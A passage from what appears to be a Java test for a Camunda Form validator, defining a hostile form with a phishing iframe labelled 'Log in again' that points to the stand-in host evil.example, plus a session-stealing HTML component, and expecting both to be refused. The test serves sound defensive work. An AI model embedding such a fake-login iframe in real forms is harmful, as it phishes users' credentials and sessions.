                      {"type": "iframe", "id": "Iframe_FakeLogin", "label": "Log in again", "url": "https://evil.example/login"}
                    ]}
                  ]
                }
                """);
        return new Hostile("Camunda Form with html and iframe components", key, resources, List.of(
                new Refusal("hostile-form.form", "Html_StealSession", "components that embed markup or other pages are not allowed"),
                new Refusal("hostile-form.form", "Iframe_FakeLogin", "components that embed markup or other pages are not allowed")));
    }
}
